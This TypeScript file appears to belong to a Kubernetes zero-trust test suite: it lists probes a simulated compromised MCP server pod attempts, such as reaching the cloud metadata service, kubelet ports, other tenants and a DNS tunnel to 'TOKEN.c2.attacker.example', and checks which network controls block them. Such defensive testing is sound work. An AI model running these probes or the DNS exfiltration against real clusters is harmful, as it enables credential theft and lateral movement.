import type { Try } from '../kernel/agent';
import { nodeAddress, type PodHost } from './plan';
import { AUTHORITY } from './scripts';
import type { ClusterWorld } from './world';

/** Something that a compromised server tries. */
export interface ClusterProbe {
  readonly name: string;
  /** The control that stops it; undefined where Kubernetes lets every pod do it. */
  readonly control?: string;
  /** Why it is let through, where it is. */
  readonly why?: string;
  attempts(scene: Scene): readonly Attempted[];
}

type Attempted = DistributedOmit<Try, 'namespace' | 'resolver'>;
type DistributedOmit<T, K extends PropertyKey> = T extends unknown ? Omit<T, K> : never;

interface Scene {
  readonly server: PodHost;
  readonly pods: readonly PodHost[];
}

/** Addresses of which nobody built more than something that answers. */
export const PROBED_ADDRESSES = ['169.254.169.254', '169.254.170.23', 'fd00:ec2::254', 'fd00:ec2::23', '10.100.0.1', '198.51.100.10', '2001:db8:ffff::10', '203.0.113.7'];

const tcp = (address: string, port: number): Attempted => ({ kind: 'tcp', address, port, speak: { kind: 'raw' } });
const udp = (address: string, port: number): Attempted => ({ kind: 'udp', address, port, speak: { kind: 'raw' } });
const dns = (address: string, type: string): Attempted => ({ kind: 'dns', address, name: `TOKEN.c2.attacker.example`, type, arrives: true });
const both = ({ v4, v6 }: { readonly v4: string; readonly v6: string }, port: number) => [tcp(v4, port), tcp(v6, port), udp(v4, port)];
const named = (pods: readonly PodHost[], name: string) => pods.filter((pod) => pod.name === name);
const isServer = ({ labels }: PodHost) => labels['mcp-zero-trust/role'] === 'server';

export const PROBES: readonly ClusterProbe[] = [
  { name: 'internet, TCP', control: 'NET-1', attempts: () => [22, 80, 443, 4444].map((port) => tcp('198.51.100.10', port)) },
  { name: 'internet, UDP', control: 'NET-1', attempts: () => [53, 123, 443, 51_820].map((port) => udp('198.51.100.10', port)) },
  { name: 'internet, ICMP', control: 'NET-1', attempts: () => [{ kind: 'icmp', address: '198.51.100.10' }] },
  { name: 'internet over IPv6', control: 'NET-1', attempts: () => [tcp('2001:db8:ffff::10', 443), udp('2001:db8:ffff::10', 443), { kind: 'icmp', address: '2001:db8:ffff::10' }] },
  { name: 'internet, SCTP, GRE and 6in4', control: 'NET-1', attempts: () => [132, 47, 41].map((protocol): Attempted => ({ kind: 'raw', address: '198.51.100.10', protocol })) },
  { name: 'the declared block of another server', control: 'MUL-5', attempts: () => [tcp('203.0.113.7', 443)] },
  { name: 'DNS to a resolver outside', control: 'NET-1', attempts: () => [dns(AUTHORITY, 'TXT'), tcp(AUTHORITY, 53), tcp(AUTHORITY, 853)] },
  { name: 'metadata service of the node', control: 'CON-2', attempts: () => [tcp('169.254.169.254', 80), tcp('fd00:ec2::254', 80)] },
  { name: 'agent of Pod Identity, without a role', control: 'CON-2', attempts: () => [tcp('169.254.170.23', 80), tcp('fd00:ec2::23', 80)] },
  { name: 'API server', control: 'CON-2', attempts: () => [tcp('10.100.0.1', 443)] },
  { name: 'another server', control: 'MUL-5', attempts: ({ server, pods }) => pods.filter((pod) => isServer(pod) && pod !== server).flatMap((pod) => [...both(pod, 8080), tcp(pod.v4, 15_008), { kind: 'icmp', address: pod.v4 } as const]) },
  { name: 'the gateway', control: 'MUL-5', attempts: ({ pods }) => named(pods, 'mcp-gateway/gateway').flatMap((pod) => [...both(pod, 8443), tcp(pod.v4, 15_008)]) },
  { name: 'a pod of another namespace', control: 'MUL-2', attempts: ({ pods }) => named(pods, 'elsewhere/tenant').flatMap((pod) => both(pod, 80)) },
  { name: 'other ports of CoreDNS', control: 'MUL-5', attempts: ({ pods }) => pods.filter(({ resolver }) => resolver).flatMap((pod) => both(pod, 9153)) },
  { name: 'another node (kubelet, node ports)', control: 'MUL-5', attempts: ({ server }) => [10_250, 10_255, 30_080].map((port) => tcp(nodeAddress(1 - server.node).v4, port)) },
  { name: 'DNS tunnel through CoreDNS', why: 'a pod that may look up names may look up any name: CoreDNS asks for it. A DNS firewall behind CoreDNS, or a network plugin that filters by name, is what there is against it', attempts: ({ pods }) => pods.filter(({ resolver }) => resolver).map((pod) => dns(pod.v4, 'TXT')) },
  { name: 'its own node', why: 'Kubernetes lets every pod reach the node that it runs on; what listens there has to ask who is calling', attempts: ({ server }) => [tcp(nodeAddress(server.node).v4, 10_250)] },
];

export interface ClusterOutcome {
  readonly probe: ClusterProbe;
  /** Whether any of its attempts got through. */
  readonly through: boolean;
}

/** Tries each probe from a server. */
export async function runProbes(server: PodHost, pods: readonly PodHost[], world: ClusterWorld): Promise<readonly ClusterOutcome[]> {
  const namespace = world.namespaceOf(server);
  return Promise.all(
    PROBES.map(async (probe) => {
      const results = await Promise.all(probe.attempts({ server, pods }).map((attempt) => world.agent.attempt({ ...attempt, namespace, resolver: '' } as Try)));
      return { probe, through: results.includes(true) };
    }),
  );
}

/** Whether the kubelet of a pod's node still reaches it, for its probes. */
export async function kubeletReaches(pod: PodHost, world: ClusterWorld): Promise<boolean> {
  return world.agent.attempt({ ...tcp(pod.v4, 8081), namespace: world.nodeNamespace(pod.node), resolver: '' } as Try);
}
